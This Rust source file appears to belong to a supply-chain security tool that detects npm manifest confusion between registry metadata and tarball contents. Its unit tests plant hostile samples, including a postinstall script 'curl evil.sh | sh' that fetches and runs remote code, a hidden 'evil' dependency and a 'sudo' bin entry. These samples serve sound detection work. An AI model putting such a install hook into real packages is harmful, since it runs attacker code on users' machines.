//! Manifest confusion: where the registry's copy of a version's manifest and the
//! `package.json` inside its tarball disagree. npm shows the first and installs the second.
//!
//! Both sides go through the same normalizers, and what npm's publish step changes on the
//! way to the registry is undone, so that only real differences remain:
//! - `bin` is cleaned as npm-normalize-package-bin does (`./cli.js` → `cli.js`);
//! - `optionalDependencies` are taken out of `dependencies` (normalize-package-data once
//!   copied them in);
//! - the implicit `install: node-gyp rebuild` of a package with a `binding.gyp` counts on
//!   both sides (the files that imply it are the tarball's);
//! - versions compare after semver's clean (`v1.0.0` → `1.0.0`).

use nodules_npm::normalize::Warnings;
use nodules_npm::normalize::fields::string_map;
use nodules_store::model::{Dependencies, ManifestMismatch, SourceFacts, StringMap, VersionRecord};
use serde::Serialize;
use serde_json::Value;

use super::scripts::NODE_GYP_INSTALL;

/// Scripts compared: those npm runs on install, and `prepare` (run for git installs).
const COMPARED_SCRIPTS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];

/// The fields on which `registry` and the tarball's manifest disagree: `version`, the four
/// dependency maps, install-relevant `scripts.*`, `bin`. `tarball_facts` is
/// [`super::detect`]'s result for the same tarball. The name is compared by
/// [`name_mismatch`], since the registry record does not carry it.
pub fn manifest_mismatches(
    registry: &VersionRecord,
    tarball: &Value,
    tarball_facts: &SourceFacts,
) -> Vec<ManifestMismatch> {
    let mut out = Vec::new();
    let tarball_version = tarball.get("version").and_then(Value::as_str);
    if clean_version(&registry.version) != tarball_version.map(clean_version).unwrap_or_default() {
        out.push(mismatch("version", Some(registry.version.as_str()), tarball_version));
    }
    let (reg, tar) = (dedupe_optional(&registry.deps), dedupe_optional(&tarball_facts.deps));
    for (field, r, t) in [
        ("dependencies", &reg.dependencies, &tar.dependencies),
        ("devDependencies", &reg.dev_dependencies, &tar.dev_dependencies),
        ("peerDependencies", &reg.peer_dependencies, &tar.peer_dependencies),
        ("optionalDependencies", &reg.optional_dependencies, &tar.optional_dependencies),
    ] {
        if r != t {
            out.push(mismatch(field, non_empty(r), non_empty(t)));
        }
    }
    let (reg, tar) = compared_scripts(registry, tarball, tarball_facts);
    for name in COMPARED_SCRIPTS {
        let (r, t) = (reg.get(name), tar.get(name));
        if r != t {
            out.push(mismatch(&format!("scripts.{name}"), r, t));
        }
    }
    let (reg, tar) = (clean_bin(&registry.bin), clean_bin(&tarball_facts.bin));
    if reg != tar {
        out.push(mismatch("bin", non_empty(&reg), non_empty(&tar)));
    }
    out
}

/// The tarball's `name`, when it is not the name the registry publishes it under.
pub fn name_mismatch(registry_name: &str, tarball: &Value) -> Option<ManifestMismatch> {
    let name = tarball.get("name").and_then(Value::as_str);
    (name != Some(registry_name)).then(|| mismatch("name", Some(registry_name), name))
}

fn mismatch<T: Serialize + ?Sized>(field: &str, registry: Option<&T>, tarball: Option<&T>) -> ManifestMismatch {
    // a map of strings or a string always serializes
    let json = |v: &T| serde_json::to_string(v).unwrap_or_default();
    ManifestMismatch { field: field.to_string(), registry: registry.map(json), tarball: tarball.map(json) }
}

fn non_empty(map: &StringMap) -> Option<&StringMap> {
    (!map.is_empty()).then_some(map)
}

/// semver's `clean`: surrounding spaces and leading `=`/`v` do not count.
fn clean_version(v: &str) -> &str {
    v.trim().trim_start_matches(['=', 'v']).trim()
}

/// Dependencies without the optional ones in `dependencies`.
fn dedupe_optional(deps: &Dependencies) -> Dependencies {
    let mut deps = deps.clone();
    let optional = &deps.optional_dependencies;
    deps.dependencies.retain(|name, _| !optional.contains_key(name));
    deps
}

/// The compared scripts of both sides, with the implicit node-gyp install on both when the
/// tarball implies it.
fn compared_scripts(registry: &VersionRecord, tarball: &Value, facts: &SourceFacts) -> (StringMap, StringMap) {
    let pick = |mut m: StringMap| {
        m.retain(|k, _| COMPARED_SCRIPTS.contains(&k.as_str()));
        m
    };
    let mut reg = pick(registry.scripts.clone());
    let mut tar = pick(string_map(tarball.get("scripts"), "scripts", &mut Warnings::new()));
    let implied = !tar.contains_key("install")
        && !tar.contains_key("preinstall")
        && facts.install_scripts.get("install").map(String::as_str) == Some(NODE_GYP_INSTALL);
    if implied {
        tar.insert("install".into(), NODE_GYP_INSTALL.into());
        if !reg.contains_key("install") && !reg.contains_key("preinstall") {
            reg.insert("install".into(), NODE_GYP_INSTALL.into());
        }
    }
    (reg, tar)
}

/// npm-normalize-package-bin: a command is the base name of its key (`\` and `:` count as
/// `/`), its path is resolved against the package root (`./cli.js`, `/cli.js` and
/// `a/../cli.js` are all `cli.js`); entries left empty are dropped.
pub fn clean_bin(bin: &StringMap) -> StringMap {
    let mut out = StringMap::new();
    for (key, path) in bin {
        let key = key.replace(['\\', ':'], "/");
        let Some(command) = key.split('/').rfind(|s| !s.is_empty()).filter(|s| *s != "." && *s != "..") else {
            continue;
        };
        let mut parts: Vec<&str> = Vec::new();
        let path = path.replace('\\', "/");
        for part in path.split('/') {
            match part {
                "" | "." => {}
                ".." => {
                    parts.pop();
                }
                part => parts.push(part),
            }
        }
        if !parts.is_empty() {
            out.insert(command.to_string(), parts.join("/"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::facts::detect;

    fn map(pairs: &[(&str, &str)]) -> StringMap {
        pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
    }

    fn registry() -> VersionRecord {
        VersionRecord {
            version: "1.0.0".into(),
            deps: Dependencies { dependencies: map(&[("a", "^1.0.0"), ("b", "~2")]), ..Dependencies::default() },
            scripts: map(&[("test", "jest")]),
            bin: map(&[("tool", "cli.js")]),
            ..VersionRecord::default()
        }
    }

    fn tarball() -> Value {
        json!({
            "name": "tool", "version": "1.0.0",
            "dependencies": {"b": "~2", "a": "^1.0.0"},
            "scripts": {"test": "mocha"},
            "bin": "./cli.js"
        })
    }

    fn mismatches(tarball: &Value, files: &[&str]) -> Vec<ManifestMismatch> {
        let files: Vec<(String, u64)> = files.iter().map(|p| (p.to_string(), 1)).collect();
        manifest_mismatches(&registry(), tarball, &detect(tarball, &files, "tool"))
    }

    fn fields(list: &[ManifestMismatch]) -> Vec<&str> {
        list.iter().map(|m| m.field.as_str()).collect()
    }

    #[test]
    fn same_content_in_another_order_or_shape_is_no_mismatch() {
        // reordered keys, `./cli.js` as a string, a non-install script that differs
        assert_eq!(mismatches(&tarball(), &[]), []);
        let mut v = tarball();
        v["version"] = json!("v1.0.0");
        assert_eq!(mismatches(&v, &[]), []);
    }

    #[test]
    fn a_hidden_dependency_is_reported_with_both_values() {
        let mut v = tarball();
        v["dependencies"]["evil"] = json!("1.0.0");
        let found = mismatches(&v, &[]);
        assert_eq!(
            found,
            [ManifestMismatch {
                field: "dependencies".into(),
                registry: Some(r#"{"a":"^1.0.0","b":"~2"}"#.into()),
                tarball: Some(r#"{"a":"^1.0.0","b":"~2","evil":"1.0.0"}"#.into()),
            }]
        );
    }

    #[test]
    fn a_hidden_postinstall_is_reported() {
        let mut v = tarball();
        v["scripts"]["postinstall"] = json!("curl evil.sh | sh");
        let found = mismatches(&v, &[]);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].field, "scripts.postinstall");
        assert_eq!((found[0].registry.as_deref(), found[0].tarball.as_deref()), (None, Some(r#""curl evil.sh | sh""#)));
    }

    #[test]
    fn a_different_bin_and_version_are_reported() {
        let mut v = tarball();
        v["bin"] = json!({"tool": "./cli.js", "sudo": "./evil.js"});
        v["version"] = json!("1.0.1");
        assert_eq!(fields(&mismatches(&v, &[])), ["version", "bin"]);
    }

    #[test]
    fn missing_fields_count_as_absent() {
        let v = json!({"name": "tool"});
        let found = mismatches(&v, &[]);
        assert_eq!(fields(&found), ["version", "dependencies", "bin"]);
        assert_eq!(found[0].tarball, None);
    }

    #[test]
    fn publish_time_normalization_is_not_a_mismatch() {
        // normalize-package-data copied optional dependencies into `dependencies`
        let mut reg = registry();
        reg.deps.dependencies.insert("fsevents".into(), "^2".into());
        reg.deps.optional_dependencies.insert("fsevents".into(), "^2".into());
        let mut v = tarball();
        v["optionalDependencies"] = json!({"fsevents": "^2"});
        let facts = detect(&v, &[], "tool");
        assert_eq!(manifest_mismatches(&reg, &v, &facts), []);
        // the registry lists the node-gyp install that a binding.gyp implies
        reg.scripts.insert("install".into(), "node-gyp rebuild".into());
        let files = vec![("binding.gyp".to_string(), 1)];
        assert_eq!(manifest_mismatches(&reg, &v, &detect(&v, &files, "tool")), []);
        // and when it does not, the implicit script counts on both sides
        assert_eq!(mismatches(&tarball(), &["binding.gyp"]), []);
    }

    #[test]
    fn names_are_compared_apart() {
        assert_eq!(name_mismatch("tool", &tarball()), None);
        let m = name_mismatch("tool", &json!({"name": "other"})).expect("a mismatch");
        assert_eq!((m.registry.as_deref(), m.tarball.as_deref()), (Some(r#""tool""#), Some(r#""other""#)));
    }

    #[test]
    fn bins_are_cleaned_as_npm_does() {
        let bin = map(&[("./bin/a", "./a.js"), ("b", "/abs/../b.js"), ("c", "bin\\\\c.js"), ("..", "x"), ("d", "./")]);
        assert_eq!(clean_bin(&bin), map(&[("a", "a.js"), ("b", "b.js"), ("c", "bin/c.js")]));
    }
}
